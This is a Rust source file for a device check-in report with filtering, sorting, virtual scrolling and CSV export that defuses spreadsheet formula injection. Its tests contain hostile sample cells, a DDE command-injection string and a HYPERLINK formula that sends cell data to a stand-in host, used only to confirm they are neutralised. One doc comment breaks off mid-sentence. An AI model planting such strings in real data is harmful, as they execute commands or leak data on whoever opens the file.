//! The check-in report: the check-in statuses read as a report, not a form. Filter (text,
//! failed only, platform, date range), sort by any column, the count and the succeeded/failed
//! split of what is shown, the rows in view (only those are rendered, so 50,000 rows cost what
//! 30 do), and the shown rows as CSV (RFC 4180, by the `csv` crate). A pure state and reducer;
//! the rows themselves are the session's draft, read, never copied.

use crate::core::rules::draft::{CheckinDraft, CheckinField, Rows};
use crate::core::text::fold::contains_folded;
use std::cmp::Ordering;
use std::ops::Range;
use std::rc::Rc;

/// The columns, in order: every check-in field.
pub const COLUMNS: [CheckinField; 9] = CheckinField::ALL;

/// What the report shows.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Filter {
    /// Matched, ignoring case, against every text column.
    pub text: String,
    pub failed_only: bool,
    /// `""`: every platform.
    pub platform: String,
    /// Inclusive `YYYY-MM-DD` bounds of the check-in date; `""`: open.
    pub from: String,
    pub to: String,
}

impl Filter {
    pub fn is_empty(&self) -> bool {
        self.text.trim().is_empty()
            && !self.failed_only
            && self.platform.is_empty()
            && self.from.is_empty()
            && self.to.is_empty()
    }
}

/// The report's state: filter, sort, where it is scrolled, and whether the rows are being
/// edited instead (the form's controls).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Report {
    pub filter: Filter,
    /// The column sorted by, and whether descending; `None`: as Graph sent them.
    pub sort: Option<(CheckinField, bool)>,
    /// The first row in view.
    pub first: usize,
    pub editing: bool,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Action {
    Text(String),
    FailedOnly(bool),
    Platform(String),
    From(String),
    To(String),
    /// Sort by this column; again: the other way.
    SortBy(CheckinField),
    /// Scrolled: this row is the first in view.
    Scroll(usize),
    Edit(bool),
}

impl Report {
    pub fn apply(mut self, action: Action) -> Report {
        let refilter = !matches!(action, Action::Scroll(_) | Action::Edit(_));
        match action {
            Action::Text(t) => self.filter.text = t,
            Action::FailedOnly(on) => self.filter.failed_only = on,
            Action::Platform(p) => self.filter.platform = p,
            Action::From(d) => self.filter.from = d,
            Action::To(d) => self.filter.to = d,
            Action::SortBy(column) => {
                let descending = matches!(self.sort, Some((c, false)) if c == column);
                self.sort = Some((column, descending));
            }
            Action::Scroll(first) => self.first = first,
            Action::Edit(on) => self.editing = on,
        }
        if refilter {
            self.first = 0;
        }
        self
    }
}

/// A row's applied policies as the report shows them, on screen and in the CSV: one line
/// each, blank ones left out, `; ` between.
pub fn applied_policies(row: &CheckinDraft) -> String {
    let text = row.get(CheckinField::AppliedPolicies);
    text.lines().map(str::trim).filter(|l| !l.is_empty()).collect::<Vec<_>>().join("; ")
}

fn date(row: &CheckinDraft) -> &str {
    let when = row.get(CheckinField::CheckinDateTime).trim();
    when.get(..10).unwrap_or(when)
}

fn matches(row: &CheckinDraft, filter: &Filter, needle: &str) -> bool {
    if filter.failed_only && row.succeeded {
        return false;
    }
    if !filter.platform.is_empty()
        && !row.get(CheckinField::DevicePlatform).trim().eq_ignore_ascii_case(&filter.platform)
    {
        return false;
    }
    if !filter.from.is_empty() || !filter.to.is_empty() {
        let day = date(row);
        if day.is_empty()
            || (!filter.from.is_empty() && day < filter.from.as_str())
            || (!filter.to.is_empty() && day > filter.to.as_str())
        {
            return false;
        }
    }
    needle.is_empty()
        || COLUMNS.iter().filter(|c| **c != CheckinField::WasSuccessful).any(|c| contains_folded(row.get(*c), needle))
}

fn compare(a: &CheckinDraft, b: &CheckinDraft, column: CheckinField) -> Ordering {
    match column {
        CheckinField::WasSuccessful => a.succeeded.cmp(&b.succeeded),
        _ => a.get(column).cmp(b.get(column)),
    }
}

/// The rows the report shows, in order, as indices into `rows`.
pub fn select(rows: &[CheckinDraft], filter: &Filter, sort: Option<(CheckinField, bool)>) -> Vec<u32> {
    let needle = filter.text.trim().to_lowercase();
    let mut out: Vec<u32> = if filter.is_empty() {
        (0..rows.len() as u32).collect()
    } else {
        (0..rows.len() as u32).filter(|&i| matches(&rows[i as usize], filter, &needle)).collect()
    };
    if let Some((column, descending)) = sort {
        out.sort_by(|&a, &b| {
            let order = compare(&rows[a as usize], &rows[b as usize], column);
            if descending {
                order.reverse()
            } else {
                order
            }
        });
    }
    out
}

impl Filter {
    /// Whether every row this filter keeps is one `previous` kept too (typing on in the filter
    /// box: its text grows), so that [`refine`] may start from what `previous` showed.
    pub fn narrows(&self, previous: &Filter) -> bool {
        let rest = |f: &Filter| Filter { text: String::new(), ..f.clone() };
        rest(self) == rest(previous) && self.text.trim().to_lowercase().contains(&previous.text.trim().to_lowercase())
    }
}

/// The rows of an earlier selection (`shown`, in its order) that `filter` keeps: the same as
/// The rows a report shows, kept with what they were picked for, so that typing on in the
/// filter box over the same rows and order refines what was shown ([`refine`]) instead of
/// reading every row again; anything else selects anew ([`select`]).
#[derive(Clone, Debug, Default)]
pub struct Selection {
    last: Option<Picked>,
}

/// What a selection picked, and for which filter, rows and order.
#[derive(Clone, Debug)]
struct Picked {
    filter: Filter,
    rows: u64,
    sort: Option<(CheckinField, bool)>,
    shown: Rc<Vec<u32>>,
}

impl Selection {
    /// The rows of `rows` that `filter` keeps, in `sort`'s order, as indices.
    pub fn of(&mut self, rows: &Rows, filter: &Filter, sort: Option<(CheckinField, bool)>) -> Rc<Vec<u32>> {
        let narrowed = self.last.as_ref().and_then(|last| {
            (last.rows == rows.id() && last.sort == sort && filter.narrows(&last.filter))
                .then(|| refine(rows, &last.shown, filter))
        });
        let shown = Rc::new(narrowed.unwrap_or_else(|| select(rows, filter, sort)));
        self.last = Some(Picked { filter: filter.clone(), rows: rows.id(), sort, shown: shown.clone() });
        shown
    }
}

/// [`select`] when `filter` narrows the earlier one's filter, with the same sort, but it looks
/// only at the rows shown already (at 50,000 rows, a keystroke in the filter box after the
/// first looks at the first one's matches only).
pub fn refine(rows: &[CheckinDraft], shown: &[u32], filter: &Filter) -> Vec<u32> {
    let needle = filter.text.trim().to_lowercase();
    shown.iter().copied().filter(|&i| matches(&rows[i as usize], filter, &needle)).collect()
}

/// Succeeded and failed among `shown`.
pub fn split(rows: &[CheckinDraft], shown: &[u32]) -> (usize, usize) {
    let succeeded = shown.iter().filter(|&&i| rows[i as usize].succeeded).count();
    (succeeded, shown.len() - succeeded)
}

/// The platforms the rows name, each once, sorted.
pub fn platforms(rows: &[CheckinDraft]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for row in rows {
        let p = row.get(CheckinField::DevicePlatform).trim();
        if !p.is_empty() && !out.iter().any(|o| o.eq_ignore_ascii_case(p)) {
            out.push(p.to_string());
        }
    }
    out.sort_by_key(|p| p.to_lowercase());
    out
}

/// The rows to render for a view of `height` rows whose first is `first`, with `overscan`
/// more on each side, within `total`.
pub fn window(total: usize, first: usize, height: usize, overscan: usize) -> Range<usize> {
    let start = first.min(total).saturating_sub(overscan);
    let end = (first + height + overscan).min(total);
    start..end.max(start)
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's CSV
/// injection list), with their full-width forms.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// A cell as a spreadsheet should read it: one that would start a formula gets a leading `'`
/// (OWASP's rule), so it stays text. The writer quotes every cell.
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The shown rows as CSV (RFC 4180): a header of Graph's property names, then one record per
/// row (applied policies joined with "; "), each line ended by CRLF. Every cell is quoted (a
/// quote inside doubled), and none starts a formula ([`neutralised`]): a device named
/// `=HYPERLINK(…)` is text in Excel, not a link.
pub fn csv(rows: &[CheckinDraft], shown: &[u32]) -> String {
    let mut out = String::new();
    let mut record = |cells: &mut dyn Iterator<Item = std::borrow::Cow<'_, str>>| {
        for (i, cell) in cells.enumerate() {
            out.push_str(if i == 0 { "\"" } else { ",\"" });
            out.push_str(&neutralised(&cell).replace('"', "\"\""));
            out.push('"');
        }
        out.push_str("\r\n");
    };
    record(&mut COLUMNS.iter().map(|c| c.property().into()));
    for &i in shown {
        let row = &rows[i as usize];
        record(&mut COLUMNS.iter().map(|c| match c {
            CheckinField::AppliedPolicies => applied_policies(row).into(),
            _ => row.get(*c).into(),
        }));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::wire::model::CheckinStatus;

    fn row(upn: &str, platform: &str, ok: bool, when: &str, error: &str) -> CheckinDraft {
        CheckinDraft::from_status(&CheckinStatus {
            user_principal_name: Some(upn.into()),
            device_name: Some(format!("PC-{upn}")),
            device_platform: Some(platform.into()),
            was_successful: Some(ok),
            checkin_date_time: Some(when.into()),
            error_message: Some(error.into()),
            applied_policies: Some(vec![Some("Baseline".into()), None, Some("Finance".into())]),
            ..Default::default()
        })
    }

    fn rows() -> Vec<CheckinDraft> {
        vec![
            row("ada@contoso.com", "Windows", true, "2026-11-20T08:00:00Z", ""),
            row("grace@contoso.com", "macOS", false, "2026-11-21T09:00:00Z", "Policy \"X\", not applied"),
            row("alan@contoso.com", "windows", false, "2026-11-25T10:00:00Z", "Timeout"),
            row("zoë@contoso.com", "iOS", true, "", ""),
        ]
    }

    fn shown(filter: Filter, sort: Option<(CheckinField, bool)>) -> Vec<u32> {
        select(&rows(), &filter, sort)
    }

    #[test]
    fn filters_combine() {
        let f = |text: &str, failed_only: bool, platform: &str, from: &str, to: &str| Filter {
            text: text.into(),
            failed_only,
            platform: platform.into(),
            from: from.into(),
            to: to.into(),
        };
        let cases: Vec<(Filter, Vec<u32>)> = vec![
            (Filter::default(), vec![0, 1, 2, 3]),
            (f("GRACE", false, "", "", ""), vec![1]),
            (f("timeout", false, "", "", ""), vec![2]),
            (f("ZOË", false, "", "", ""), vec![3]),
            (f("finance", false, "", "", ""), vec![0, 1, 2, 3]),
            (f("", true, "", "", ""), vec![1, 2]),
            (f("", false, "Windows", "", ""), vec![0, 2]),
            (f("", true, "windows", "", ""), vec![2]),
            (f("", false, "", "2026-11-21", ""), vec![1, 2]),
            (f("", false, "", "", "2026-11-21"), vec![0, 1]),
            (f("", false, "", "2026-11-21", "2026-11-21"), vec![1]),
            (f("nobody", false, "", "", ""), vec![]),
        ];
        for (filter, expected) in cases {
            assert_eq!(shown(filter.clone(), None), expected, "{filter:?}");
        }
    }

    #[test]
    fn typing_on_refines_what_was_shown_to_what_a_fresh_selection_shows() {
        let rows = rows();
        let text = |t: &str| Filter { text: t.into(), ..Filter::default() };
        for sort in [None, Some((CheckinField::UserPrincipalName, true))] {
            let mut previous = text("");
            let mut before = select(&rows, &previous, sort);
            for typed in ["c", "co", "con", "CONTOSO", "contoso.c", "contoso.co"] {
                let now = text(typed);
                assert!(now.narrows(&previous), "{typed}");
                let refined = refine(&rows, &before, &now);
                assert_eq!(refined, select(&rows, &now, sort), "{typed} {sort:?}");
                (previous, before) = (now, refined);
            }
        }
        let narrowing = |now: Filter, before: Filter| now.narrows(&before);
        assert!(!narrowing(text("gr"), text("gra")), "deleting a letter widens");
        assert!(!narrowing(text("ab"), text("b a")), "another text");
        assert!(!narrowing(Filter { failed_only: true, ..text("a") }, text("a")), "only the text may differ");
        assert!(narrowing(text(" Grace "), text("grac")), "spaces around and case do not count");
    }

    #[test]
    fn a_selection_refines_only_the_same_rows_and_reads_changed_ones_anew() {
        let text = |t: &str| Filter { text: t.into(), ..Filter::default() };
        let mut rows: Rows = rows().into();
        let mut selection = Selection::default();
        assert_eq!(*selection.of(&rows, &text("a"), None), select(&rows, &text("a"), None));
        assert_eq!(*selection.of(&rows, &text("al"), None), [2], "typing on: alan");
        // The same rows, changed in place: a new list, read again (a refine would miss grace).
        rows[1].cells.insert(CheckinField::UserPrincipalName, "alice@contoso.com".into());
        assert_eq!(*selection.of(&rows, &text("ali"), None), [1], "alice, after the change");
        let copy = rows.clone();
        assert_eq!(copy.id(), rows.id(), "a copy is the same list");
    }

    #[test]
    fn sorting_by_a_column_twice_reverses_it() {
        let r = Report::default().apply(Action::SortBy(CheckinField::UserPrincipalName));
        assert_eq!(shown(Filter::default(), r.sort), [0, 2, 1, 3]);
        let r = r.apply(Action::SortBy(CheckinField::UserPrincipalName));
        assert_eq!(shown(Filter::default(), r.sort), [3, 1, 2, 0]);
        let r = r.apply(Action::SortBy(CheckinField::WasSuccessful));
        assert_eq!(shown(Filter::default(), r.sort), [1, 2, 0, 3], "failed first, stable");
        assert_eq!(shown(Filter::default(), Some((CheckinField::CheckinDateTime, true))), [2, 1, 0, 3]);
    }

    #[test]
    fn a_new_filter_scrolls_back_to_the_top() {
        let r = Report::default().apply(Action::Scroll(400));
        assert_eq!(r.first, 400);
        assert_eq!(r.clone().apply(Action::Edit(true)).first, 400);
        assert_eq!(r.apply(Action::Text("x".into())).first, 0);
    }

    #[test]
    fn the_split_platforms_and_window() {
        let rows = rows();
        assert_eq!(split(&rows, &[0, 1, 2, 3]), (2, 2));
        assert_eq!(split(&rows, &[1]), (0, 1));
        assert_eq!(platforms(&rows), ["iOS", "macOS", "Windows"]);
        assert_eq!(window(50_000, 1000, 20, 10), 990..1030);
        assert_eq!(window(50_000, 0, 20, 10), 0..30);
        assert_eq!(window(25, 20, 20, 10), 10..25);
        assert_eq!(window(0, 5, 20, 10), 0..0);
    }

    #[test]
    fn applied_policies_read_alike_on_screen_and_in_the_csv() {
        let mut edited = rows().remove(0);
        // A null in Graph's list is a blank line; an admin's edit may leave spaces.
        edited.cells.insert(CheckinField::AppliedPolicies, " Baseline \n\n\tFinance\n".into());
        assert_eq!(applied_policies(&edited), "Baseline; Finance");
        let csv = csv(&[edited], &[0]);
        assert!(csv.lines().nth(1).is_some_and(|l| l.ends_with("\"Baseline; Finance\"")), "{csv}");
    }

    #[test]
    fn csv_quotes_as_rfc_4180_says() {
        let text = csv(&rows(), &[1, 0]);
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert_eq!(lines[0], "\"userPrincipalName\",\"deviceName\",\"devicePlatform\",\"devicePlatformVersion\",\"wasSuccessful\",\"userId\",\"checkinDateTime\",\"errorMessage\",\"appliedPolicies\"");
        assert_eq!(lines[1], "\"grace@contoso.com\",\"PC-grace@contoso.com\",\"macOS\",\"\",\"false\",\"\",\"2026-11-21T09:00:00Z\",\"Policy \"\"X\"\", not applied\",\"Baseline; Finance\"");
        assert!(lines[2].starts_with("\"ada@contoso.com\","));
        assert_eq!(lines.len(), 4, "a CRLF after each record");
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(&records[0][7], "Policy \"X\", not applied", "reads back");
    }

    #[test]
    fn no_cell_starts_a_formula() {
        let table = [
            ("=HYPERLINK(\"https://x/?\"&A2,\"Open\")", "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
            ("\u{FF0B}1", "'\u{FF0B}1"),
            ("\u{FF0D}1", "'\u{FF0D}1"),
            ("\u{FF20}SUM(A1)", "'\u{FF20}SUM(A1)"),
            ("PC-01", "PC-01"),
            ("a=b", "a=b"),
            ("", ""),
            ("'quoted", "'quoted"),
        ];
        for (cell, expected) in table {
            assert_eq!(neutralised(cell), expected, "{cell:?}");
        }
        let hostile = CheckinDraft::from_status(&CheckinStatus {
            user_principal_name: Some("=cmd|' /C calc'!A0@contoso.com".into()),
            device_name: Some("=HYPERLINK(\"https://x/?\"&A2,\"Open\")".into()),
            ..Default::default()
        });
        let text = csv(std::slice::from_ref(&hostile), &[0]);
        let record = ::csv::Reader::from_reader(text.as_bytes()).records().next().unwrap().unwrap();
        assert_eq!(&record[0], "'=cmd|' /C calc'!A0@contoso.com");
        assert_eq!(&record[1], "'=HYPERLINK(\"https://x/?\"&A2,\"Open\")");
        assert!(text.lines().nth(1).unwrap().starts_with("\"'=cmd"), "quoted: {text}");
        assert_eq!(
            hostile.get(CheckinField::DeviceName),
            "=HYPERLINK(\"https://x/?\"&A2,\"Open\")",
            "the row keeps the real text"
        );
    }
}
